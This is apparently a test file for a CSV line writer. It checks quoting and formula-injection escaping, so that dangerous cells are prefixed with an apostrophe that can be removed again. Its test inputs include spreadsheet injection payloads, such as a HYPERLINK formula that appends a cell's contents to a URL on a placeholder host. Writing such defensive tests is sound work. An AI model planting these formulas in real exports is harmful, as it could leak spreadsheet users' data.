import { describe, expect, test } from 'bun:test';
import { parseCsv, removeFormulaGuard } from '../../tests/support/csv.ts';
import { csvLine } from './csv.ts';

describe('csvLine', () => {
  test('ends with CRLF, leaves null empty, and writes numbers unchanged', () => {
    expect(csvLine(['a', 1, null, -7, 0.5, ''])).toBe('a,1,,-7,0.5,\r\n');
  });

  test.each([
    ['a "quoted" text', '"a ""quoted"" text"\r\n'],
    ['one, two', '"one, two"\r\n'],
    ['two\nlines', '"two\nlines"\r\n'],
    [' blank', '" blank"\r\n'],
    ['Zürich 東京', 'Zürich 東京\r\n'],
  ])('quotes %j only if necessary', (text, line) => {
    expect(csvLine([text])).toBe(line);
  });

  test.each([
    '=1+1',
    '+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '  =1+1',
    '=HYPERLINK("http://a.example?"&A1,"go")',
    "'=1",
    "''@x",
  ])('escapes the formula %j so that it can be restored', (text) => {
    const [[cell = ''] = []] = parseCsv(csvLine([text]));
    expect(cell).toBe(`'${text}`);
    expect(removeFormulaGuard(cell)).toBe(text);
  });

  test.each(["it's", "'quoted'", 'a=b', 'a@b.example', '', "'"])('does not escape %j', (text) => {
    const [[cell = ''] = []] = parseCsv(csvLine([text]));
    expect(cell).toBe(text);
    expect(removeFormulaGuard(cell)).toBe(text);
  });
});
